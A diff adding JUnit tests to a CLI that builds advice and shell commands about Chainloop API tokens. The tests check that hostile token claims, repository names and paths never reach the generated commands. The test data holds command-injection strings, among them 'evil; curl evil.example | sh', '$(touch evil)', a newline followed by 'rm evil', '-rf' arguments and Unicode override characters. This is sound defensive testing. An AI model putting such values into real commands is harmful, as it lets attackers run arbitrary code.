@@ -16,6 +16,7 @@ import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
 import java.util.Locale;
+import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -171,6 +172,108 @@ final class AdviceTest {
                 .out();
         assertEquals(planned, there.contains("gh secret set CHAINLOOP_TOKEN --repo OWNER/REPO"), there);
         assertFalse(there.contains("--in "), there);
+    }
+
+    // ---------- what stands in a command
+
+    /** Anybody can write a token: what is no name and no UUID is a placeholder, in each claim that a command can hold. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "a$(touch evil)b",
+                "`evil`",
+                "evil; curl evil.example | sh",
+                "-rf evil",
+                "--evil",
+                "evil\\nrm evil",
+                "\\u001b[31mevil",
+                "evil' 'evil",
+                "../evil",
+                "EVIL"
+            })
+    void aHostileClaimIsInNoCommand(String claim) {
+        List<List<String>> outputs = List.of(
+                List.of("inspect", "-o", "json"),
+                List.of("check", "-o", "json"),
+                List.of("sources", "-o", "json"),
+                List.of("explain", "-o", "json", "API token revoked"),
+                List.of("explain", "-o", "json", "valid only with the project"),
+                List.of("inspect", "-o", "json", "--in", "pod"),
+                List.of("inspect", "-o", "json", "--redact"));
+        String claims = " jti=\"%1$s\" token_name=\"%1$s\" org_name=\"%1$s\" project_name=\"%1$s\"".formatted(claim);
+        for (String end : List.of(" expired", " exp=now+1h")) {
+            for (Where where : Where.values()) {
+                for (List<String> output : outputs) {
+                    JsonNode answer = Payload.read(
+                            where.run(home, "API" + end + claims).run(output).out());
+                    for (JsonNode step : answer.at("/plan/steps")) {
+                        String lines = step.path("run").toString() + step.path("put");
+                        assertFalse(lines.toLowerCase(Locale.ROOT).contains("evil"), lines);
+                    }
+                }
+            }
+        }
+        String text = Where.GITHUB.run(home, "API expired" + claims).run().out();
+        for (String line : text.lines().filter(one -> one.startsWith("    ")).toList()) {
+            assertFalse(line.toLowerCase(Locale.ROOT).contains("evil"), text);
+        }
+        assertTrue(text.contains(" --id ID --org ORG"), text);
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "https://github.com, acme/web, acme/web",
+        "https://github.acme.example, acme/web, github.acme.example/acme/web",
+        "https://github.acme.example:8443, acme/web, github.acme.example:8443/acme/web",
+        "https://github.example/$(evil), acme/web, OWNER/REPO",
+        "https://github.com, acme/web;evil, OWNER/REPO",
+        "https://github.com, -R/evil, OWNER/REPO",
+    })
+    void aRepositoryIsNamedWithItsHost(String server, String repository, String named) {
+        String plan = Where.GITHUB
+                .run(home, "API expired")
+                .env("GITHUB_REPOSITORY", repository)
+                .env("GITHUB_SERVER_URL", server)
+                .run("-o", "json")
+                .out();
+        assertTrue(plan.contains("gh secret set CHAINLOOP_TOKEN --repo " + named + "\""), plan);
+    }
+
+    @Test
+    void aPathIsNoOptionAndNoLetterOfItIsHidden() {
+        Optional<Path> none = Optional.empty();
+        assertEquals("./-rf", ShellWord.ofPath("-rf", none));
+        assertEquals("'./- x'", ShellWord.ofPath("- x", none));
+        assertEquals("FILE", ShellWord.ofPath("/tmp/a\nb", none));
+        assertEquals("FILE", ShellWord.ofPath("/tmp/\u202eb", none));
+        assertEquals("'/tmp/a$(b)'", ShellWord.ofPath("/tmp/a$(b)", none));
+        assertEquals("~/'a'\\''b'", ShellWord.ofPath("/root/a'b", Optional.of(Path.of("/root"))));
+    }
+
+    // ---------- what was mended before
+
+    /** A gate recommends nothing that it refuses, a list names the control plane, and what cannot be read is not widened. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "GITHUB | '' | check --type api-token | gh secret set | id-token",
+                "GITHUB | '' | check | id-token: write | auth login",
+                "GITHUB | '' | check --type user | Accept an API token | api-token create",
+                "GITHUB | API | explain 'finding token: API token not found' | --status all --org acme --control-plane cp.acme.example:443 | auth login",
+                "GITLAB | API exp=now+1h project_id=7 | check --min-remaining 9d | what it is for cannot be read | api-token create",
+                "GITLAB | API exp=now+1h org_id=7 | check --min-remaining 9d | what it is for cannot be read | api-token create",
+            })
+    void aMendStays(Where where, String token, String command, String has, String hasNot) {
+        CliRun run = where.run(home, token).env("CHAINLOOP_CONTROL_PLANE_API", "cp.acme.example:443");
+        List<String> args =
+                new ArrayList<>(List.of(command.replaceAll(" '.*", "").split(" ")));
+        if (command.contains("'")) {
+            args.add(command.split("'")[1]);
+        }
+        CliRun.Result result = run.run(args);
+        assertTrue((result.out() + result.err()).replaceAll("\\s+", " ").contains(has), result::toString);
+        assertFalse(result.out().contains(hasNot), result::toString);
     }
 
     // ---------- the page
